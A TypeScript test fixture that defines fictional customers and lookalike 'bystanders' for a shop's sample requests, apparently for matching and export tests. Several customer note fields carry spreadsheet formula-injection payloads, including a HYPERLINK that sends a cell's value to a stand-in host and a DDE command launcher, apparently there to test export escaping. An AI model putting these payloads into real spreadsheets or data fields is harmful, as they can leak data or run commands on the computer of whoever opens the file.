/**
 * The people whom the sample is about: those who write a letter, and those who could be mistaken for them
 * (same name, same address, same telephone, receiver of a gift). Everybody here is made up; mail domains end in
 * `.example` (RFC 2606), which nobody can own.
 */
import type { Home, Person, Tongue } from './person.ts';

type Sketch = Pick<Person, 'key' | 'first' | 'last' | 'email' | 'phone'> &
  Partial<Omit<Person, 'home' | 'language'>>;

function person(language: Tongue, home: Home, sketch: Sketch): Person {
  return {
    earlierEmail: null,
    customerNumber: null,
    birthDate: null,
    orders: 3,
    giftTo: null,
    note: '',
    ...sketch,
    language,
    home,
  };
}

function home(
  street: string,
  house: string,
  box: string | null,
  postcode: string,
  city: string,
  country = 'BE',
): Home {
  return { street, house, box, postcode, city, country };
}

const claesHome = home('Dorpsstraat', '5', null, '9270', 'Laarne');
const cruzHome = home('Avenue des Acacias', '71', '2', '4000', 'Liège');
const claesPhone = '+32470001155';
const cruzPhone = '+32495007788';

/** People who write to the shop in `resources/sample/requests`. */
const writers: readonly Person[] = [
  person('nl', home('Kerkstraat', '12', '3', '9230', 'Wetteren'), {
    key: 'anneleen',
    first: 'Anneleen',
    last: 'Van den Broeck',
    email: 'anneleen.vandenbroeck@postvak.example',
    phone: '+32470123456',
    customerNumber: 'K700123',
    birthDate: '1985-02-03',
    orders: 5,
    note: '=HYPERLINK("http://kwaad.example/?x="&A1,"klik hier")',
  }),
  person('fr', home('Rue de la Station', '45', null, '5000', 'Namur'), {
    key: 'sebastien',
    first: 'Sébastien',
    last: 'Lefèvre',
    email: 'sebastien.lefevre@courrier.example',
    phone: '+32475004512',
    orders: 3,
  }),
  person('de', home('Klosterstraße', '8', null, '4700', 'Eupen'), {
    key: 'juergen',
    first: 'Jürgen',
    last: 'Groß',
    email: 'juergen.gross@briefkasten.example',
    phone: '+32476008831',
    customerNumber: 'K700231',
    birthDate: '1971-06-19',
    orders: 4,
  }),
  person('en', home('Rue Américaine', '88', null, '1050', 'Ixelles'), {
    key: 'zoe',
    first: 'Zoë',
    last: 'Ashworth',
    email: 'zoe.ashworth@mailbox.example',
    phone: '+447700900123',
    customerNumber: 'K700187',
    orders: 3,
  }),
  person('nl', home('Molenstraat', '27', null, '9230', 'Wetteren'), {
    key: 'jan-wetteren',
    first: 'Jan',
    last: 'Peeters',
    email: 'jan.peeters@postvak.example',
    phone: '+32477002719',
    customerNumber: 'K700140',
    birthDate: '1962-09-30',
    orders: 4,
  }),
  person('en', home('Tiensestraat', '101', '4', '3000', 'Leuven'), {
    key: 'lukasz',
    first: 'Łukasz',
    last: 'Kowalski',
    email: 'lukasz.kowalski@mailbox.example',
    phone: '+32478003104',
    customerNumber: 'K700166',
    orders: 5,
    note: "=cmd|' /C calc'!A0",
  }),
  person('fr', home('Rue Josaphat', '210', null, '1030', 'Schaerbeek'), {
    key: 'ayse',
    first: 'Ayşe',
    last: 'Şahin',
    email: 'ayse.sahin@courrier.example',
    earlierEmail: { address: 'ayse_s88@ancienne-boite.example', until: '2025-06-01' },
    phone: '+32479005520',
    customerNumber: 'K700205',
    orders: 6,
  }),
  person('nl', home('Turnhoutsebaan', '66', null, '2140', 'Borgerhout'), {
    key: 'stefan',
    first: 'Ștefan',
    last: 'Ionescu',
    email: 'stefan.ionescu@postvak.example',
    phone: '+32471006644',
    customerNumber: 'K700118',
    birthDate: '1990-12-11',
    orders: 3,
    note: '@SUM(1+1)*cmd',
  }),
  person('en', home('Coupure Links', '15', null, '9000', 'Gent'), {
    key: 'oraia',
    first: 'Ωραία',
    last: 'Παπαδοπούλου',
    email: 'oraia.p@mailbox.example',
    phone: '+32472001508',
    customerNumber: 'K700249',
    orders: 2,
  }),
  person('de', home('Jakobstraße', '44', null, '52064', 'Aachen', 'DE'), {
    key: 'yana',
    first: 'Яна',
    last: 'Ясенова',
    email: 'yana.yasenova@briefkasten.example',
    phone: '+491713920044',
    customerNumber: 'K700212',
    orders: 3,
  }),
  person('nl', home('Hoogstraat', '140', null, '9700', 'Oudenaarde'), {
    key: 'els',
    first: 'Els',
    last: 'Mertens',
    email: 'els.mertens@postvak.example',
    phone: '+32473001409',
    customerNumber: 'K700155',
    orders: 2,
  }),
  person('nl', claesHome, {
    key: 'jonas',
    first: 'Jonas',
    last: 'Claes',
    email: 'jonas.claes@postvak.example',
    phone: claesPhone,
    customerNumber: 'K700171',
    birthDate: '1998-04-22',
    orders: 3,
  }),
  person('fr', home('Rue des Tanneurs', '12', null, '7000', 'Mons'), {
    key: 'noella',
    first: 'Noëlla',
    last: 'Jacquemin',
    email: 'noella.jacquemin@courrier.example',
    phone: '+32474001293',
    customerNumber: 'K700193',
    orders: 6,
    giftTo: 'jan-dhondt',
    note: 'Belt liever dan mailen; zegt "geen haast".\n-2+3 kaartjes nagestuurd',
  }),
];

/** People who share something with a writer, or whose names are hard to print. */
const bystanders: readonly Person[] = [
  person('nl', home('Guldenstraat', '3', null, '2800', 'Mechelen'), {
    key: 'jan-mechelen',
    first: 'Jan',
    last: 'Peeters',
    email: 'jan.peeters@brievenbus.example',
    phone: '+32486002803',
    customerNumber: 'K700141',
    birthDate: '1974-01-17',
    orders: 4,
  }),
  person('nl', claesHome, {
    key: 'johan',
    first: 'Johan',
    last: 'Claes',
    email: 'johan.claes@postvak.example',
    phone: claesPhone,
    customerNumber: 'K700170',
    birthDate: '1967-08-05',
    orders: 4,
    giftTo: 'jonas',
  }),
  person('nl', home('Korenmarkt', '2', null, '9000', 'Gent'), {
    key: 'jan-dhondt',
    first: 'Jan',
    last: "d'Hondt",
    email: 'jan.dhondt@postvak.example',
    phone: '+32487009002',
    customerNumber: 'K700194',
    orders: 2,
  }),
  person('fr', cruzHome, {
    key: 'maria',
    first: 'María',
    last: 'De la Cruz',
    email: 'maria.delacruz@courrier.example',
    phone: cruzPhone,
    customerNumber: 'K700260',
    orders: 3,
    giftTo: 'noella',
  }),
  person('fr', cruzHome, {
    key: 'pablo',
    first: 'Pablo',
    last: 'De la Cruz',
    email: 'pablo.delacruz@courrier.example',
    phone: cruzPhone,
    customerNumber: 'K700261',
    orders: 2,
  }),
  person('fr', cruzHome, {
    key: 'carmen',
    first: 'Carmen',
    last: 'De la Cruz',
    email: 'carmen.delacruz@courrier.example',
    phone: cruzPhone,
    customerNumber: 'K700262',
    orders: 1,
  }),
  person('nl', home('Kerkstraat', '12', '3', '9230', 'Wetteren'), {
    key: 'wout',
    first: 'Wout',
    last: 'Van den Broeck',
    email: 'wout.vdb@postvak.example',
    phone: '+32488001232',
    customerNumber: 'K700124',
    orders: 3,
    giftTo: 'anneleen',
  }),
];

/** All people with a part of their own; the rest of the 200 customers is drawn by lot. */
export const cast: readonly Person[] = [...writers, ...bystanders];
